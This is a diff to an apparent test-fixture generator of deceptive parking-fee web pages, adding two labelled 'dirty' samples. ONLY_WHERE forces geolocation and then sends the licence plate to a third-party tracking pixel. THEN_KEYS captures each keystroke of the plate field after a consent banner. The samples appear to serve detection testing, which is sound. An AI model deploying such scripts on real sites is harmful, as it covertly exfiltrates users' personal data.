@@ -36,6 +36,18 @@ ASKS_TWICE = (
     "'完整车牌';f.insertAdjacentHTML('afterend','<p>有不止一辆车是这个尾号，请输入完整车牌。</p>')}"
 )
 
+# No fee without the place of the phone; with it, the plate goes to another site too.
+ONLY_WHERE = (
+    "const f=document.forms[0];if(f&&f.plate)f.onsubmit=e=>{e.preventDefault();navigator.geolocation.getCurrentPosition(()=>{"
+    "new Image().src='https://px.otherads-zoo.cn/i.gif?c='+btoa(unescape(encodeURIComponent(f.plate.value)));"
+    "setTimeout(()=>f.submit(),200)},()=>f.insertAdjacentHTML('afterend','<p>打开位置后再查</p>'))}"
+)
+ALLOWS = "<p>本页想了解您的偏好。</p><button type=button>接受</button>"
+THEN_KEYS = (
+    "const w=document.querySelector('#way');if(w)w.onclick=()=>{w.innerHTML=`FORM`;w.onclick=null;w.querySelector('[name=plate]')"
+    ".oninput=e=>fetch('/seen',{method:'POST',body:e.target.value})}"
+).replace("FORM", FORM.format(path="/p/7F3K"))
+
 # A button leads from the fee back to the plate; what a second look-up shows is put in.
 CORRECTED = (
     "const f=document.forms[0];if(f&&f.plate){const m=document.querySelector('main'),home=[...m.childNodes];let asked=0;f.onsubmit=async e=>{"
@@ -230,6 +242,13 @@ def dirty() -> Iterator[tuple[str, list[Animal]]]:
         [
             _steps("三步才到车牌", ("P1",), "进入停车缴费", "我知道了", "下一步"),
             _steps("两步才到车牌", ("P1",), "停车缴费", "我要缴费"),
+        ],
+    )
+    yield (
+        "for what the driver allows",
+        [
+            Animal("", "允许定位才查费", ("P9a", "P6"), script=ONLY_WHERE),
+            Animal("", "接受条款才能输车牌", ("P8c",), form=f"<div id=way>{ALLOWS}</div>", script=THEN_KEYS),
         ],
     )
     yield (
